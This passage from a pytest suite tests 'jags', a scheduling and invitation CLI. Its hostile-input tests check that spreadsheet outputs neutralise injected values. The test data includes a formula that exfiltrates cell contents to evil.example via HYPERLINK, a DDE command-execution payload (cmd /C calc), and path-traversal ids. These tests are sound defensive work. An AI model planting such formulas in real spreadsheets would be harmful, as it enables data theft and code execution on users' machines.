    export.write_bytes(b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\n")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out, "--calendar-aware", "--strict")
    assert_clean_failure(result, out, f"calendars/{facilitator}.ics, line 3")
    relaxed = jags(
        "allocate", workspace, "--on", ON, "--out", out, "--calendar-aware", "--no-cache"
    )
    assert relaxed.exit_code == 0, relaxed.output


# jags invite -----------------------------------------------------------------------------


def _second_option(folder: Path) -> tuple[str, dict[str, str]]:
    """A request whose option 2 is a different time from option 1."""
    rows = read_csv(folder / "proposals.csv")
    first = {r["request_id"]: r for r in rows if r["option"] == "1" and r["outside"] == "false"}
    for row in rows:
        rid = row["request_id"]
        if row["option"] == "2" and rid in first and row["start"] != first[rid]["start"]:
            return rid, row
    raise AssertionError("no request with a second option")


def test_invite_choose_moves_the_invitation(schedule_copy: Path) -> None:
    rid, option = _second_option(schedule_copy)
    before = (schedule_copy / "invites" / f"{rid}.ics").read_bytes()
    others = {
        k: v for k, v in snapshot(schedule_copy / "invites").items() if not k.startswith(f"{rid}.")
    }
    result = jags("invite", schedule_copy, "--choose", f"{rid}=2", "--on", "2026-12-01")
    assert result.exit_code == 0, result.output
    assert rid in result.stdout
    after = (schedule_copy / "invites" / f"{rid}.ics").read_bytes()
    assert ics_field(after, "UID") == ics_field(before, "UID")
    assert ics_field(after, "SEQUENCE") == ["1"]
    assert ics_field(after, "METHOD") == ["REQUEST"]
    assert ics_field(after, "DTSTAMP") == ["20261201T000000Z"]
    start = datetime.fromisoformat(option["start"]).astimezone(LONDON)
    assert ics_field(after, "DTSTART")[-1] == f"{start:%Y%m%dT%H%M%S}"
    assert {
        k: v for k, v in snapshot(schedule_copy / "invites").items() if not k.startswith(f"{rid}.")
    } == others
    manifest = json.loads((schedule_copy / "schedule.json").read_text("utf-8"))
    assert manifest["outbox"] == [rid]
    assert manifest["sessions"][rid]["invited"]["start"] == option["start"]


def test_invite_cancel_sends_a_cancellation(schedule_copy: Path) -> None:
    rid, _ = _second_option(schedule_copy)
    before = (schedule_copy / "invites" / f"{rid}.ics").read_bytes()
    assert (
        jags("invite", schedule_copy, "--choose", f"{rid}=2", "--on", "2026-12-01").exit_code == 0
    )
    result = jags("invite", schedule_copy, "--cancel", rid, "--on", "2026-12-02")
    assert result.exit_code == 0, result.output
    after = (schedule_copy / "invites" / f"{rid}.ics").read_bytes()
    assert ics_field(after, "METHOD") == ["CANCEL"]
    assert ics_field(after, "STATUS") == ["CANCELLED"]
    assert ics_field(after, "UID") == ics_field(before, "UID")
    assert ics_field(after, "SEQUENCE") == ["2"]
    attendees = ics_field(after, "ATTENDEE")
    assert len(attendees) == len(ics_field(before, "ATTENDEE")) > 1


def test_invite_send_dry_run_needs_no_credentials(
    schedule_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in (
        "JAGS_GRAPH_TENANT_ID",
        "JAGS_GRAPH_CLIENT_ID",
        "JAGS_GRAPH_CLIENT_SECRET",
        "JAGS_GRAPH_ORGANIZER",
    ):
        monkeypatch.delenv(name, raising=False)
    before = snapshot(schedule_copy)
    manifest = json.loads((schedule_copy / "schedule.json").read_text("utf-8"))
    result = jags("invite", schedule_copy, "--send", "graph")
    assert result.exit_code == 0, result.output
    lines = [line for line in result.stdout.splitlines() if line.startswith("would send ")]
    assert len(lines) == len(manifest["outbox"]) > 0
    for line, rid in zip(lines, manifest["outbox"], strict=True):
        assert line.startswith(f"would send REQUEST for {rid} to ")
        assert line.endswith(" via graph")
    assert snapshot(schedule_copy) == before  # a dry run changes nothing
    assert leaks(result.output) == []


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--choose", "R-9999=1"], "R-9999"),
        (["--choose", "R-0001"], "REQUEST_ID=OPTION"),
        (["--choose", "R-0001=99"], "option 99"),
        (["--send", "pigeon"], "--send"),
    ],
)
def test_invite_bad_arguments_change_nothing(
    schedule_copy: Path, args: list[str], expected: str
) -> None:
    before = snapshot(schedule_copy)
    result = jags("invite", schedule_copy, *args, "--on", "2026-12-01")
    assert result.exit_code == 2
    assert expected in result.stderr
    assert "Traceback" not in result.output
    assert snapshot(schedule_copy) == before


def test_invite_without_a_schedule_is_a_clear_error(tmp_path: Path) -> None:
    result = jags("invite", tmp_path, "--send", "graph")
    assert result.exit_code == 2
    assert "schedule.json" in result.stderr and "jags schedule" in result.stderr


# jags policies ---------------------------------------------------------------------------


def test_policies_lists_the_presets() -> None:
    result = jags("policies")
    assert result.exit_code == 0, result.output
    starts = [
        m.start()
        for preset in ("norfolk", "bedfordshire", "cheshire-west")
        for m in [re.search(rf"^{preset} +\S.*: [12] facilitator", result.stdout, re.M)]
        if m
    ]
    assert len(starts) == 3 and starts == sorted(starts)


@pytest.mark.parametrize("preset", sorted(PRESETS))
def test_policies_prints_toml_that_policy_reads_back(preset: str, tmp_path: Path) -> None:
    result = jags("policies", preset)
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    parsed = tomllib.loads(result.stdout)  # valid TOML, every field
    assert parsed["name"] == preset
    assert set(parsed) >= {"facilitators_per_request", "allocate_within_days", "closure_days"}
    saved = tmp_path / f"{preset}.toml"
    saved.write_text(result.stdout, encoding="utf-8")
    assert read_policy_file(saved) == Policy.preset(preset)
    # --policy FILE gives the batch that --policy NAME gives, byte for byte
    by_file = jags("allocate", SAMPLE, "--on", ON, "--policy", saved, "--out", tmp_path / "f")
    by_name = jags("allocate", SAMPLE, "--on", ON, "--policy", preset, "--out", tmp_path / "n")
    assert by_file.exit_code == by_name.exit_code == 0, by_file.output
    assert snapshot(tmp_path / "f") == snapshot(tmp_path / "n")
    assert by_file.stdout.replace(str(tmp_path / "f"), "") == by_name.stdout.replace(
        str(tmp_path / "n"), ""
    )


def test_policies_prints_an_edited_file_back_as_toml(tmp_path: Path) -> None:
    edited = tmp_path / "christmas.toml"
    edited.write_text(
        'base = "norfolk"\nname = "norfolk-christmas"\nclosure_days = [2026-12-24, 2026-12-29]\n',
        encoding="utf-8",
    )
    result = jags("policies", edited)
    assert result.exit_code == 0, result.output
    again = tmp_path / "again.toml"
    again.write_text(result.stdout, encoding="utf-8")
    assert read_policy_file(again) == read_policy_file(edited)
    assert "closure_days = [2026-12-24, 2026-12-29]" in result.stdout.splitlines()


def test_policies_unknown_name_is_an_error() -> None:
    result = jags("policies", "atlantis")
    assert result.exit_code == 2
    assert "atlantis" in result.stderr


def test_invite_send_failure_is_a_message_not_a_traceback(
    schedule_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JAGS_GRAPH_TENANT_ID", "tenant")
    monkeypatch.setenv("JAGS_GRAPH_CLIENT_ID", "client")
    monkeypatch.setenv("JAGS_GRAPH_CLIENT_SECRET", "s3cret-value")
    monkeypatch.setenv("JAGS_GRAPH_ORGANIZER", "jags@bu.example")
    monkeypatch.setenv("JAGS_GRAPH_AUTHORITY_HOST", "https://127.0.0.1:9")  # nothing listens
    result = jags("invite", schedule_copy, "--send", "graph", "--no-dry-run")
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "sign-in failed" in result.stderr
    assert "s3cret-value" not in result.output


def test_schedule_refuses_a_session_window_already_open(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    # Confirmed on 2 Nov: the window opened on 16 Nov, before a run on 23 Nov, where every
    # calendar looks empty. The run is refused and nothing is written.
    out = tmp_path / "out"
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        allocated[1] / "allocations.csv",
        "--confirmed-on",
        "2026-11-02",
        "--on",
        ON,
        "--out",
        out,
    )
    assert_clean_failure(
        result, out, "session window opened on 2026-11-16", "before this run (2026-11-23)"
    )


# The report and feedback (the ledger's QA) ---------------------------------------------------


@pytest.fixture(scope="module")
def sample_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample workspace with a ledger: history imported, one batch committed."""
    folder = tmp_path_factory.mktemp("ledger") / "sample"
    shutil.copytree(SAMPLE, folder)
    assert jags("init", folder, "--on", "2026-11-16", "--by", "test").exit_code == 0
    assert (
        jags(
            "allocate",
            folder,
            "--on",
            "2026-11-16",
            "--commit",
            "--by",
            "test",
            "--out",
            folder.parent / "batch",
        ).exit_code
        == 0
    )
    return folder


def test_feedback_import_adds_each_response_once(sample_ledger: Path) -> None:
    export = sample_ledger / "feedback-form.xlsx"
    first = jags("feedback", "import", sample_ledger, export, "--on", "2026-11-16")
    assert first.exit_code == 0, first.output
    assert re.search(r"Imported (\d+) response\(s\); 0 already", first.stdout)
    again = jags("feedback", "import", sample_ledger, export, "--on", "2026-11-16")
    assert again.exit_code == 0
    assert re.search(r"Imported 0 response\(s\); \d+ already in the ledger", again.stdout)


def test_feedback_import_bad_cell_is_exit_2_naming_file_row_column(
    sample_ledger: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "forms.csv"
    bad.write_text(
        "ID,JAGS request number,Themes agreed by the group,Your role in the session,"
        "Completion time\n1,H-0001,Drift;Complexity;,Facilitator,2026-11-02\n"
        "2,R-9999,Drift;,Requester,2026-11-02\n",
        encoding="utf-8",
    )
    mapping = tmp_path / "map.toml"
    mapping.write_text(
        'form = "paper"\n[columns]\nresponse_id = "ID"\nrequest_id = "JAGS '
        'request number"\nthemes = "Themes agreed by the group"\n',
        encoding="utf-8",
    )
    result = jags("feedback", "import", sample_ledger, bad, "--mapping", mapping)
    assert result.exit_code == 2
    assert "forms.csv, row 3, column request_id: not a request in the ledger" in result.stderr
    assert "Traceback" not in result.output
    before = jags("export", sample_ledger, "--out", tmp_path / "tables")
    assert before.exit_code == 0
    assert "paper:" not in (tmp_path / "tables" / "feedback.csv").read_text("utf-8")


def test_report_writes_the_page_and_the_kpis(sample_ledger: Path, tmp_path: Path) -> None:
    out = tmp_path / "report"
    result = jags(
        "report",
        sample_ledger,
        "--from",
        "2026-11-01",
        "--to",
        "30/11/2026",
        "--out",
        out,
        "--target",
        "allocated_by_deadline=95%",
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == ["kpis.csv", "report.html"]
    rows = read_csv(out / "kpis.csv")
    assert list(rows[0]) == ["kpi", "period", "numerator", "denominator", "value", "target"]
    mine = {(r["kpi"], r["period"]): r for r in rows}
    assert mine["allocated_by_deadline", "all"]["target"] == "0.95"
    assert mine["requests_received", "2026-11"]["numerator"] == "12"  # received by the 16th
    page = (out / "report.html").read_text("utf-8")
    secrets = {r["case_ref"] for r in read_csv(SAMPLE / "requests.csv")} | {
        r["requester_name"] for r in read_csv(SAMPLE / "requests.csv")
    }
    assert not any(s in page for s in secrets)
    # the same report again is fine; another period over it is refused without --force
    again = jags(
        "report",
        sample_ledger,
        "--from",
        "2026-11-01",
        "--to",
        "30/11/2026",
        "--out",
        out,
        "--target",
        "allocated_by_deadline=95%",
    )
    assert again.exit_code == 0, again.output
    other = jags(
        "report", sample_ledger, "--from", "2026-10-01", "--to", "30/11/2026", "--out", out
    )
    assert other.exit_code == 2 and "holds an earlier result" in other.stderr
    assert (out / "report.html").read_text("utf-8") == page
    forced = jags(
        "report",
        sample_ledger,
        "--from",
        "2026-10-01",
        "--to",
        "30/11/2026",
        "--out",
        out,
        "--force",
    )
    assert forced.exit_code == 0, forced.output
    assert (out / "report.html").read_text("utf-8") != page


def test_report_mistakes_are_exit_2(sample_ledger: Path, tmp_path: Path) -> None:
    for args, message in (
        (("--from", "2026-11-30", "--to", "2026-11-01"), "--to is before --from"),
        (("--from", "11/31/2026", "--to", "2026-12-01"), "--from: '11/31/2026' is not a date"),
        (
            ("--from", "2026-11-01", "--to", "2026-11-30", "--target", "nope=0.5"),
            "--target: 'nope' is not one of",
        ),
    ):
        result = jags("report", sample_ledger, *args, "--out", tmp_path / "x")
        assert result.exit_code == 2, args
        assert message in result.stderr
    assert not (tmp_path / "x").exists()
    result = jags(
        "report", tmp_path, "--from", "2026-11-01", "--to", "2026-11-30", "--out", tmp_path / "y"
    )
    assert result.exit_code == 2 and "has no ledger yet" in result.stderr


# Start-up ----------------------------------------------------------------------------------


def _modules_after(code: str) -> set[str]:
    done = subprocess.run(
        [sys.executable, "-c", code + "\nimport sys\nprint(*sys.modules)"],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
    )
    return set(done.stdout.split())


def test_the_command_loads_no_solver_spreadsheet_or_network_library_until_used() -> None:
    heavy = {
        "ortools",
        "openpyxl",
        "requests",
        "exchangelib",
        "msal",
        "icalendar",
        "numpy",
        "pandas",
        "scheduling",
        "holidays",
    }
    loaded = _modules_after("import jags.cli")
    assert not {m.split(".")[0] for m in loaded} & heavy
    # An allocation with the flow solver never loads CP-SAT.
    loaded = _modules_after(
        "from datetime import date\nfrom allocator import Policy, allocate\n"
        "from jags.workspace import read_workspace\n"
        f"allocate(read_workspace(__import__('pathlib').Path({str(SAMPLE)!r})), "
        "Policy.preset('norfolk'), on=date(2026, 11, 23))"
    )
    assert "ortools.graph.python.min_cost_flow" in loaded
    assert not {m for m in loaded if m.startswith("ortools.sat")}
    assert not {m.split(".")[0] for m in loaded} & {
        "requests",
        "exchangelib",
        "msal",
        "icalendar",
        "scheduling",
    }


# Hostile input: formulas, unsafe ids, private values in the wrong column, huge numbers ---


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_COLUMNS = {
    "facilitators": ("name", "organisation", "sector", "locality", "specialisms"),
    "requests": (
        "requester_name",
        "requester_organisation",
        "case_ref",
        "family_ref",
        "locality",
        "topic",
        "preference_rationale",
    ),
    "participants": ("name", "organisation"),
    "involvements": ("note",),
}
ID_COLUMNS = {
    "facilitators": ("facilitator_id",),
    "requests": ("request_id", "preferred_facilitator_id", "follow_up_of"),
    "participants": ("request_id",),
    "history": ("request_id", "facilitator_id"),
}


def tiny_tables() -> dict[str, tuple[list[str], list[list[str]]]]:
    from jags.generate import generate_workspace, workspace_tables

    return workspace_tables(generate_workspace(3, 6, seed=1, with_gaps=False))


def write_tables(folder: Path, tables: dict[str, tuple[list[str], list[list[str]]]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, (head, rows) in tables.items():
        buffer = io.StringIO()  # every cell quoted, so a carriage return stays in its cell
        csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([head, *rows])
        (folder / f"{name}.csv").write_text(buffer.getvalue(), encoding="utf-8")
    return folder


def every_cell(out: Path) -> list[str]:
    """Every CSV cell (as a CSV reader gives it) under ``out``."""
    return [
        cell
        for path in sorted(out.rglob("*.csv"))
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline=""))
        for cell in row
    ]


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_hostile_text_is_never_a_formula(prefix: str, tmp_path: Path) -> None:
    tables = tiny_tables()
    for name, columns in TEXT_COLUMNS.items():
        head, rows = tables[name]
        for row in rows:
            for column in columns:
                row[head.index(column)] = f'{prefix}HYPERLINK("http://evil.example/?"&B2,"x")'
    head, rows = tables["requests"]
    rows[0][head.index("preference_rationale")] = f"{prefix}cmd|' /C calc'!A0"
    workspace = write_tables(tmp_path / "ws", tables)
    policy = tmp_path / "policy.toml"
    policy.write_text(
        f'base = "norfolk"\nname = "{prefix.encode("unicode_escape").decode()}SUM(1+1)"\n', "utf-8"
    )
    out = tmp_path / "out"
    result = jags(
        "allocate", workspace, "--on", ON, "--format", "xlsx", "--policy", policy, "--out", out
    )
    assert result.exit_code == 0, result.output
    sessions = tmp_path / "sessions"
    result = jags(
        "schedule",
        workspace,
        "--allocations",
        out / "allocations.csv",
        "--confirmed-on",
        "2026-11-30",
        "--out",
        sessions,
    )
    assert result.exit_code == 0, result.output
    cells = every_cell(out) + every_cell(sessions)
    assert not [
        c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    if not prefix.isspace():  # (leading spaces, tabs and line breaks are trimmed on reading)
        assert f"'{prefix}cmd|' /C calc'!A0" in cells  # the pinned rationale, as text
        assert any(c.startswith(f"'{prefix}HYPERLINK") for c in cells)  # a participant's name
    book = openpyxl.load_workbook(out / "allocations.xlsx")  # not read-only: formulas kept
    hostile = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)
    ]
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert all(c.data_type == "s" for c in hostile)
    if not prefix.isspace():
        assert any(c.value == f"{prefix}cmd|' /C calc'!A0" for c in hostile)
        policy_row = next(row for row in book["Summary"].iter_rows() if row[0].value == "Policy")
        assert policy_row[1].value == f"{prefix}SUM(1+1)"
        assert policy_row[1].data_type == "s"


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_ids_starting_with_a_formula_character_never_reach_an_output(
    prefix: str, tmp_path: Path
) -> None:
    tables = tiny_tables()
    ids = {row[0] for row in tables["facilitators"][1]} | {row[0] for row in tables["requests"][1]}
    ids |= {row[0] for row in tables["history"][1]}
    for head, rows in tables.values():
        for row in rows:
            for i, column in enumerate(head):
                if column in {c for cs in ID_COLUMNS.values() for c in cs} and row[i] in ids:
                    row[i] = prefix + row[i]  # the same id everywhere, so references match
    out = tmp_path / "out"
    result = jags(
        "allocate",
        write_tables(tmp_path / "ws", tables),
        "--on",
        ON,
        "--format",
        "xlsx",
        "--out",
        out,
    )
    if prefix.isspace():  # trimmed on reading: the ids are the plain ones
        assert result.exit_code == 0, result.output
        assert not [c for c in every_cell(out) if c.startswith(FORMULA_START)]
        book = openpyxl.load_workbook(out / "allocations.xlsx")
        assert not [
            c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
        ]
    else:
        assert_clean_failure(
            result, out, "facilitators.csv, row 2, column facilitator_id: value is not a valid id"
        )


@pytest.mark.parametrize(("table", "column"), [(t, c) for t, cs in ID_COLUMNS.items() for c in cs])
@pytest.mark.parametrize(
    "text", ["a/b", "../../x", '=HYPERLINK("x")', "@R1", "-F1", "Jayden Smith (DOB 01/02/2015)"]
)
def test_unsafe_ids_are_refused_with_exit_2(
    table: str, column: str, text: str, tmp_path: Path
) -> None:
    tables = tiny_tables()
    head, rows = tables[table]
    row = (
        next(i for i, r in enumerate(rows) if r[head.index(column)])
        if column in ("preferred_facilitator_id", "follow_up_of")
        else 0
    )
    rows[row][head.index(column)] = text
    out = tmp_path / "out"
    result = jags("allocate", write_tables(tmp_path / "ws", tables), "--on", ON, "--out", out)
    assert_clean_failure(
        result, out, f"{table}.csv, row {row + 2}, column {column}: value is not a valid id"
    )
    assert text not in result.output and "Jayden" not in result.output


def test_an_unsafe_request_id_on_the_command_line_is_exit_2(schedule_copy: Path) -> None:
    before = snapshot(schedule_copy)
    for args in (
        ["explain", SAMPLE, "../../x", "--on", ON],
        ["explain", "../../x", "--workspace", SAMPLE, "--on", ON],
        ["invite", schedule_copy, "--choose", "../../x=1"],
        ["invite", schedule_copy, "--cancel", "a/b"],
        ["invite", schedule_copy, "--choose", "Jayden Smith (DOB 01/02/2015)=1"],
    ):
        result = jags(*args)
        assert result.exit_code == 2, result.output
        assert isinstance(result.exception, SystemExit)
        assert "Jayden" not in result.output and "../../x" not in result.output
    assert snapshot(schedule_copy) == before


def test_schedule_refuses_unsafe_ids_and_never_repeats_private_values(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    path = _allocations_copy(allocated, tmp_path)
    set_cell(path, 2, "request_id", "a/b")
    set_cell(path, 3, "facilitator_id", "Jayden Smith (DOB 01/02/2015)")
    workspace = copy_sample(tmp_path)
    with (workspace / "calendars" / "availability.csv").open("a", encoding="utf-8") as handle:
        handle.write(
            '"Jayden.Smith@school.example, eve@evil.example",2026-12-01T09:00,'
            "2026-12-01T10:00,busy\n"
        )
    out = tmp_path / "out"
    result = jags(
        "schedule", workspace, "--allocations", path, "--confirmed-on", "2026-11-30", "--out", out
    )
    assert result.exit_code == 2, result.output
    assert "Jayden" not in result.output and "a/b" not in result.output
    assert not out.exists()
    set_cell(path, 2, "request_id", "R-0001")
    set_cell(path, 3, "facilitator_id", "F001")
    result = jags(
        "schedule", workspace, "--allocations", path, "--confirmed-on", "2026-11-30", "--out", out
    )
    assert_clean_failure(
        result, out, "availability.csv, row ", "column email: value is not an e-mail address"
    )
    assert "Jayden" not in result.output


def test_a_child_name_in_an_id_column_is_never_repeated(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    set_cell(
        workspace / "requests.csv", 3, "preferred_facilitator_id", "Jayden Smith (DOB 01/02/2015)"
    )
    set_cell(workspace / "involvements.csv", 2, "facilitator_id", "Jayden Smith")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "requests.csv, row 3, column preferred_facilitator_id: value is not",
        "involvements.csv, row 2, column facilitator_id: value is not",
    )
    assert "Jayden" not in result.output


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("51", "'51' is above the policy limit of 50 (max_open_limit)"),
        ("1" + "0" * 40, "value is too large a number"),
        ("10000000", "'10000000' is above the policy limit of 50"),
    ],
)
def test_capacity_beyond_sense_is_an_input_error(value: str, expected: str, tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    set_cell(workspace / "facilitators.csv", 3, "max_open", value)
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(result, out, f"facilitators.csv, row 3, column max_open: {expected}")


# Property: whatever is in the files, the answer is success or exit 2, never a traceback ---

HOSTILE_VALUES = [
    "",
    " ",
    "a/b",
    "../../x",
    "=1+1",
    "-",
    "@",
    "\t",
    "\r\n",
    "\x00",
    "\x1b",
    "Jayden Smith (DOB 01/02/2015)",
    "9" * 40,
    "-1",
    "0",
    "51",
    "1e400",
    "nan",
    "31/02/2026",
    "9999-12-31",
    "0001-01-01",
    "9999-12-31T23:59+23:59",
    "2026-11-23T25:00",
    "x@y",
    "a@b, c@d",
    "a\nb@c",
    "true",
    "maybe",
    "in person",
    "optional",
    "lead",
    "co",
    "R-0001",
    "F001",
    "H-0001",
    "x" * 20_000,
    "\u2028",
    "\ud7ff",
    "ʻOkina",
]
cell_values = st.one_of(
    st.sampled_from(HOSTILE_VALUES),
    st.text(max_size=40),
    st.integers(-(10**45), 10**45).map(str),
    st.integers(-3, 60).map(str),
    st.dates().map(str),
    st.dates().map(lambda d: f"{d:%d/%m/%Y}"),
    st.datetimes().map(lambda d: d.isoformat()),
    st.lists(st.sampled_from(["a@x.example", "", "x", "F001", " ; "]), max_size=3).map(";".join),
)
#: Values of the right kind but beyond sense, by column: these get past reading.
KIND_VALUES = {
    "number": st.one_of(
        st.integers(-5, 100),
        st.integers(2**31 - 2, 2**31 + 2),
        st.integers(2**63 - 2, 2**63 + 2),
        st.integers(10**18, 10**45),
    ).map(str),
    "date": st.one_of(
        st.dates(), st.dates(min_value=date(2026, 1, 1), max_value=date(2027, 12, 31))
    ).map(str),
    "datetime": st.datetimes().map(lambda d: d.isoformat(timespec="minutes")),
    "id": st.one_of(
        st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}", fullmatch=True),
        st.sampled_from(["R-0001", "R-0002", "F001", "F002", "H-0001"]),
    ),
    "text": st.text(st.characters(blacklist_categories=["Cc", "Cs"]), max_size=60),
}
COLUMN_KIND = {
    "max_open": "number",
    "open_jags": "number",
    "trained_on": "date",
    "training_expires": "date",
    "start": "date",
    "end": "date",
    "allocated_on": "date",
    "held_on": "date",
    "closed_on": "date",
    "received_at": "datetime",
    "facilitator_id": "id",
    "request_id": "id",
    "preferred_facilitator_id": "id",
    "follow_up_of": "id",
}
PROPERTY = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


def assert_exit_0_or_2(result: Result, out: Path) -> None:
    assert result.exit_code in (0, 2), (result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        assert result.stderr.startswith("error:") and not out.exists()


@st.composite
def changed_cells(
    draw: st.DrawFn, tables: dict[str, tuple[list[str], list[list[str]]]], only: str | None = None
) -> list[tuple[str, int, int, str]]:
    """One to four (table, row, column, value) changes to tables that have rows (or to
    table ``only``)."""
    names = [only] if only else sorted(name for name, (_, rows) in tables.items() if rows)
    changes = []
    for _ in range(draw(st.integers(1, 3))):
        name = draw(st.sampled_from(names))
        head, rows = tables[name]
        column = draw(st.integers(0, len(head) - 1))
        kind = KIND_VALUES[COLUMN_KIND.get(head[column], "text")]
        value = draw(st.one_of(kind, kind, cell_values))  # mostly of the column's kind
        changes.append((name, draw(st.integers(0, len(rows) - 1)), column, value))
    return changes


def _apply(
    tables: dict[str, tuple[list[str], list[list[str]]]], changes: list[tuple[str, int, int, str]]
) -> dict[str, tuple[list[str], list[list[str]]]]:
    copied = {name: (list(head), [list(r) for r in rows]) for name, (head, rows) in tables.items()}
    for name, row, column, value in changes:
        copied[name][1][row][column] = value
    return copied


TINY = tiny_tables()


@pytest.mark.parametrize("table", sorted(name for name, (_, rows) in TINY.items() if rows))
@PROPERTY
@given(data=st.data())
def test_any_workspace_cell_gives_success_or_exit_2(
    table: str, data: st.DataObject, tmp_path: Path
) -> None:
    changes = data.draw(changed_cells(TINY, table))
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        workspace = write_tables(Path(folder) / "ws", _apply(TINY, changes))
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)


@PROPERTY
@given(
    changes=changed_cells(TINY),
    types=st.lists(
        st.one_of(
            st.integers(),
            st.floats(allow_nan=True),
            st.booleans(),
            st.datetimes(),
            st.dates(),
            st.times(),
        ),
        min_size=4,
        max_size=4,
    ),
)
def test_any_workbook_cell_gives_success_or_exit_2(
    changes: list[tuple[str, int, int, str]], types: list[object], tmp_path: Path
) -> None:
    tables = _apply(TINY, changes)
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, (head, rows) in tables.items():
        sheet = book.create_sheet(name)
        for line in [head, *rows]:
            sheet.append([re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c) for c in line])
    for (name, row, column, _), value in zip(changes, types, strict=False):
        book[name].cell(row + 2, column + 1, value)  # a typed cell, not text
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        path = Path(folder) / "ws.xlsx"
        book.save(path)
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", path, "--on", ON, "--out", out), out)


@PROPERTY
@given(data=st.binary(max_size=3000), table=st.sampled_from(sorted(TINY)))
def test_any_bytes_in_a_workspace_file_give_success_or_exit_2(
    data: bytes, table: str, tmp_path: Path
) -> None:
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        workspace = write_tables(Path(folder) / "ws", TINY)
        (workspace / f"{table}.csv").write_bytes(data)
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)
        book = Path(folder) / "book.xlsx"
        book.write_bytes(b"PK\x03\x04" + data)
        assert_exit_0_or_2(jags("allocate", book, "--on", ON, "--out", out), out)


@pytest.fixture(scope="module")
def tiny_allocated(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("tiny")
    workspace = write_tables(folder / "ws", TINY)
    result = jags("allocate", workspace, "--on", ON, "--out", folder / "allocated")
    assert result.exit_code == 0, result.output
    return workspace, folder / "allocated" / "allocations.csv"


def _read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        head, *rows = list(csv.reader(handle))
    return head, rows


@PROPERTY
@given(data=st.data())
def test_any_allocations_or_availability_file_gives_success_or_exit_2(
    data: st.DataObject, tiny_allocated: tuple[Path, Path], tmp_path: Path
) -> None:
    workspace, allocations = tiny_allocated
    emails = [row[2] for row in TINY["facilitators"][1][:3]]
    availability = (
        ["email", "start", "end", "status"],
        [[e, "2026-12-14T09:00", "2026-12-14T12:00", "busy"] for e in emails],
    )
    files = {"allocations": _read_rows(allocations), "availability": availability}
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        ws = Path(folder) / "ws"
        shutil.copytree(workspace, ws)
        changed = _apply(files, data.draw(changed_cells(files)))
        write_tables(ws, {"availability": changed["availability"]})
        write_tables(Path(folder), {"allocations": changed["allocations"]})
        if data.draw(st.booleans()):
            name = data.draw(st.sampled_from(["availability.csv", "allocations.csv"]))
            target = ws / name if name == "availability.csv" else Path(folder) / name
            target.write_bytes(data.draw(st.binary(max_size=500)))
        out = Path(folder) / "out"
        assert_exit_0_or_2(
            jags(
                "schedule",
                ws,
                "--allocations",
                Path(folder) / "allocations.csv",
                "--confirmed-on",
                "2026-11-30",
                "--out",
                out,
            ),
            out,
        )


POLICY_KEYS = [
    "base",
    "name",
    "facilitators_per_request",
    "require_lead",
    "max_supervisees",
    "allocate_within_days",
    "cutoff",
    "closure_days",
    "window_first_day",
    "window_last_day",
    "session_minutes",
    "day_start",
    "day_end",
    "timezone",
    "start_grid_minutes",
    "max_open_limit",
    "penalties",
    "preferences",
    "time_limit_seconds",
    "nonsense",
]
toml_values = st.recursive(
    st.one_of(
        st.integers(-(10**30), 10**30).map(str),
        st.floats().map(repr),
        st.booleans().map(lambda b: str(b).lower()),
        st.text(max_size=20).map(
            lambda t: '"' + t.encode("unicode_escape").decode().replace('"', '\\"') + '"'
        ),
        st.sampled_from(
            [
                '"norfolk"',
                '"Mars/Base"',
                '"../x"',
                "17:00",
                "25:00",
                "2026-12-24",
                "[2026-12-24, 1]",
